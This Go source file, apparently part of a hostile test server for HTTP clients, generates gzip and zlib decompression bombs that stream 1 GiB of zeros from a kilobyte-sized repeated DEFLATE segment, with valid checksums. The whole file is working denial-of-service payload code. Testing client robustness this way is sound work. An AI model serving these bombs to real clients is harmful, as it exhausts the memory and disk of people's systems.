package hostile

import (
	"bytes"
	"compress/flate"
	"encoding/binary"
	"hash/crc32"
	"io"
	"net/http"
	"sync"
)

// Decompression bombs, made without inflating them: a DEFLATE segment
// that inflates to 1 MiB of zeros, ending byte-aligned (a sync flush) and
// referring only to bytes of its own, may follow itself any number of
// times in one stream. So a bomb of BombSize is 1024 copies of a ~1 kB
// segment between a gzip or zlib header and trailer, written as it goes:
// the server holds a kilobyte, the client gets a gigabyte.

// BombSize is what a bomb inflates to.
const BombSize = 1 << 30

const segmentSize = 1 << 20

// bombParts holds the segment and the final block that ends a stream.
type bombParts struct {
	segment, final []byte
}

var deflateParts = sync.OnceValue(func() bombParts {
	var buf bytes.Buffer
	fw, err := flate.NewWriter(&buf, flate.BestCompression)
	if err != nil {
		panic(err)
	}
	fw.Write(make([]byte, segmentSize))
	fw.Flush()
	n := buf.Len()
	fw.Close()
	b := buf.Bytes()
	return bombParts{segment: bytes.Clone(b[:n]), final: bytes.Clone(b[n:])}
})

// zerosAdler32 is the Adler-32 of n zero bytes: s1 stays 1, s2 adds 1
// per byte.
func zerosAdler32(n int64) uint32 {
	return uint32(n%65521)<<16 | 1
}

// bomb serves a BombSize bomb with Content-Encoding coding ("gzip", or
// "deflate": zlib-wrapped, as RFC 9110 says).
func bomb(coding string) func(*Server, http.ResponseWriter, *http.Request) {
	return func(s *Server, w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain")
		w.Header().Set("Content-Encoding", coding)
		writeBomb(w, coding, BombSize/segmentSize, s.closed)
	}
}

// writeBomb writes a gzip or zlib stream of segments MiB of zeros to w,
// until stop says to stop or a write fails.
func writeBomb(w io.Writer, coding string, segments int, stop func() bool) error {
	p := deflateParts()
	if coding == "gzip" {
		// ID1 ID2 CM=deflate FLG=0 MTIME=0 XFL=2 (best) OS=3 (Unix)
		if _, err := w.Write([]byte{0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 3}); err != nil {
			return err
		}
	} else if _, err := w.Write([]byte{0x78, 0xda}); err != nil { // deflate, 32 KiB window, best compression
		return err
	}
	zero := make([]byte, segmentSize)
	var crc uint32
	for range segments {
		if stop() {
			return nil
		}
		if _, err := w.Write(p.segment); err != nil {
			return err
		}
		if coding == "gzip" {
			crc = crc32.Update(crc, crc32.IEEETable, zero)
		}
	}
	size := int64(segments) * segmentSize
	trailer := bytes.Clone(p.final) // appended to
	if coding == "gzip" {
		trailer = binary.LittleEndian.AppendUint32(binary.LittleEndian.AppendUint32(trailer, crc), uint32(size))
	} else {
		trailer = binary.BigEndian.AppendUint32(trailer, zerosAdler32(size))
	}
	_, err := w.Write(trailer)
	return err
}
